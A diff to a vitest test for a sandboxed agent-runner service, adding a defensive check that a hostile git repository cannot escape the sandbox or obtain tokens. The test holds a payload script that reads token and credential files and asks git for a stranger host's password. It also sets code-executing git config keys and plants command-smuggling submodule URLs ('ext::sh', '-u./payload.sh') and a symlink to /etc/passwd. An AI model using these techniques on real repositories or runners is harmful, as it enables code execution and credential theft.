@@ -2,15 +2,17 @@
 
 import { type ChildProcess, spawn } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
-import { mkdtempSync, rmSync } from 'node:fs'
-import { request as ask, createServer } from 'node:http'
+import { chmodSync, existsSync, mkdtempSync, rmSync } from 'node:fs'
+import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
 import { ROOT } from '../../scripts/start/paths.ts'
 import { type Service, startService } from '../../scripts/start/service.ts'
+import { holdingGate } from '../support/git-gate.ts'
 import { type GitServer, startGitServer } from '../support/git-server.ts'
+import { needPrograms } from '../support/programs.ts'
 import { GOOD_TOKENS } from '../support/provider-host-types.ts'
 
 type Event = {
@@ -114,7 +116,8 @@ const state = async (path: string) => (await events(path)).findLast(({ extras })
 
 async function ready(path: string): Promise<string> {
   await expect.poll(async () => (await state(path))?.agent_state).toMatch(/awaiting_user_input|error/)
-  expect(await state(path)).toMatchObject({ agent_state: 'awaiting_user_input' })
+  const { agent_state, reason } = (await state(path)) ?? {}
+  expect([agent_state, reason]).toEqual(['awaiting_user_input', ''])
   return path
 }
 
@@ -275,39 +278,123 @@ test('a private repository is cloned and pushed to with the stored token, which 
   expect(said.content).not.toContain(GOOD_TOKENS.github)
 })
 
-/** In front of the git host: the first pack that is asked for is held back. */
-async function holdingGate(upstream: string) {
-  const held = Promise.withResolvers<void>()
-  const let_ = Promise.withResolvers<void>()
-  const server = createServer((incoming, response) => {
-    // The provider's root, where a token is tried.
-    if (/^\/api\/v3\/?$/.test(incoming.url ?? '')) {
-      response.setHeader('content-type', 'application/json')
-      return void response.end(JSON.stringify({ current_user_url: '/user' }))
-    }
-    const isPack = incoming.method === 'POST'
-    if (isPack) held.resolve()
-    const forward = () => {
-      const outgoing = ask(`${upstream}${incoming.url}`, {
-        method: incoming.method ?? 'GET',
-        headers: incoming.headers,
-      })
-      outgoing.on('response', (answer) => {
-        response.writeHead(answer.statusCode ?? 502, answer.headers)
-        answer.pipe(response)
-      })
-      outgoing.on('error', () => response.destroy())
-      incoming.pipe(outgoing)
-    }
-    if (isPack) void let_.promise.then(forward)
-    else forward()
-  })
-  server.listen(0, '127.0.0.1')
-  await new Promise((resolve) => server.once('listening', resolve))
-  const { port } = server.address() as AddressInfo
-  const close = () => {
-    server.closeAllConnections()
-    server.close()
-  }
-  return { url: `http://127.0.0.1:${port}`, isHeld: held.promise, letGo: let_.resolve, close }
+const HOSTILE_SETTINGS = {
+  'core.hooksPath': 'hooks',
+  'core.fsmonitor': './payload.sh',
+  'core.sshCommand': './payload.sh',
+  'core.pager': './payload.sh',
+  'core.editor': './payload.sh',
+  'core.gitProxy': './payload.sh',
+  'filter.evil.clean': './payload.sh',
+  'filter.evil.smudge': './payload.sh',
+  'filter.evil.process': './payload.sh',
+  'diff.evil.command': './payload.sh',
+  'diff.evil.textconv': './payload.sh',
+  'merge.evil.driver': './payload.sh',
+  'diff.external': './payload.sh',
+  'protocol.ext.allow': 'always',
+  'protocol.file.allow': 'always',
+  'credential.helper': '!./payload.sh',
+  'submodule.ext.update': '!./payload.sh',
+  'gpg.program': './payload.sh',
+  'commit.gpgSign': 'true',
 }
+
+// With the token that the test before it stored.
+test('a hostile repository, cloned and used on a runner and looked at by the service, runs nothing outside the sandbox and gets no token to another host', async ({
+  skip,
+}) => {
+  needPrograms(skip, 'bwrap', 'socat')
+  const outside = mkdtempSync(join(tmpdir(), 'bellwether-outside-'))
+  chmodSync(outside, 0o777)
+  // A runner that root starts becomes somebody else.
+  chmodSync(folder, 0o711)
+  // The loopback of the sandbox is its own, but for this address, which goes to the runner's proxy.
+  const address = '127.0.0.2'
+  const gate = await holdingGate(host.url, address)
+  gate.letGo()
+  const strangers: (string | undefined)[] = []
+  const stranger = createServer((incoming, response) => {
+    strangers.push(incoming.headers.authorization)
+    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end()
+  }).listen(0, address)
+  await new Promise((resolve) => stranger.once('listening', resolve))
+  onTestFinished(() => {
+    gate.close()
+    stranger.closeAllConnections()
+    stranger.close()
+    rmSync(outside, { recursive: true, force: true })
+  })
+  const evil = `http://${address}:${(stranger.address() as AddressInfo).port}`
+  const payload = `#!/bin/sh
+echo "$(hostname) $(id -u)" >> /workspace/ran
+touch ${outside}/ran
+for file in ${folder}/state/runner-token ${folder}/hostile/*/journal/calls.jsonl /root/.bashrc; do cat "$file" > /dev/null 2>&1 && echo "read $file" >> /workspace/ran; done
+printf 'protocol=http\\nhost=${new URL(evil).host}\\n\\n' | GIT_TERMINAL_PROMPT=0 git -C / credential fill 2>/dev/null | grep password >> /workspace/ran
+exit 0
+`
+  await hosted('private/trap', {
+    'payload.sh': payload,
+    ...Object.fromEntries(
+      ['post-checkout', 'pre-commit', 'post-merge', 'reference-transaction', 'post-index-change'].map((hook) => [
+        `hooks/${hook}`,
+        payload,
+      ]),
+    ),
+    '.gitattributes': '* filter=evil diff=evil merge=evil\n',
+    '.gitmodules': `[submodule "ext"]\n\tpath = ext\n\turl = ext::sh -c ./payload.sh% %S\n[submodule "option"]\n\tpath = option\n\turl = -u./payload.sh\n[submodule "host"]\n\tpath = host\n\turl = ${evil}/a/b.git\n`,
+    'a.txt': 'one\n',
+  })
+  await order('private/trap.git', [['config', 'http.receivepack', 'true']])
+  const tokens = { provider_tokens: { github: { token: GOOD_TOKENS.github, host: gate.url } } }
+  await call('/api/add-git-providers', 'POST', tokens)
+  await lend(
+    'hostile',
+    '--isolation',
+    'bwrap',
+    '--network',
+    'list',
+    '--allow',
+    `${new URL(gate.url).host},${new URL(evil).host}`,
+  )
+  const path = await ready(
+    await begun('private/trap', { git_provider: 'github', selected_branch: 'main' }, '?runtime=runner'),
+  )
+  expect((await run(path, 'cat /workspace/ran; git status --short; cat a.txt')).content).toMatch(
+    /No such file[^\n]*\none$/,
+  )
+  const settings = Object.entries(HOSTILE_SETTINGS).map(([name, value]) => `git config ${name} '${value}'`)
+  const used = await run(
+    path,
+    `${settings.join('\n')}
+export GIT_TERMINAL_PROMPT=0
+chmod +x payload.sh hooks/*
+git status; git diff; git add -A; git commit -qm 1; git checkout -q -b other; git stash; git submodule add -f ${evil}/c/d.git sub; git submodule update --init
+git clone -q 'ext::sh -c ./payload.sh% %S' x; git clone -q ssh://nobody@${new URL(evil).host}/x y
+git config url.${evil}/.insteadOf ${gate.url}/; git fetch; git config --unset url.${evil}/.insteadOf
+sort /workspace/ran | uniq -c | sed 's/^ *[0-9]* //' > /workspace/lines; echo; cat /workspace/lines`,
+  )
+  // It ran, in the sandbox alone, and was given nothing.
+  expect(String(used.content)).toMatch(/\nsandbox 1000$/)
+  expect((await call<{ code: string }>(`${path}/select-file?file=lines`)).code).toBe('sandbox 1000\n')
+  expect(existsSync(join(outside, 'ran'))).toBe(false)
+  expect(strangers.length).toBeGreaterThan(1)
+  expect(strangers.filter((authorization) => authorization !== undefined)).toEqual([])
+  // The service's own looks, with `.git` reached through a link as well, and the runner's question of what is ignored.
+  const before = (await call<{ code: string }>(`${path}/select-file?file=ran`)).code
+  await call(`${path}/git/changes`)
+  await call(`${path}/git/diff?path=trap/a.txt`)
+  await run(path, 'cp /workspace/ran /tmp/before; head -c 3000000 /dev/zero > big.log; echo "*.log" > .gitignore')
+  expect((await call<{ code: string }>(`${path}/select-file?file=ran`)).code).toBe(before)
+  await run(path, 'mv .git ../elsewhere; ln -s ../elsewhere .git; ln -s / root; ln -s /etc/passwd accounts')
+  for (const query of [
+    'git/changes',
+    'git/diff?path=trap/a.txt',
+    'git/diff?path=trap/accounts',
+    'select-file?file=trap/accounts',
+    'zip-directory',
+  ])
+    expect(await (await fetch(`${service.url}${path}/${query}`)).text()).not.toContain('root:x:0')
+  expect(existsSync(join(outside, 'ran'))).toBe(false)
+  expect(JSON.stringify(await events(path))).not.toContain(GOOD_TOKENS.github)
+})
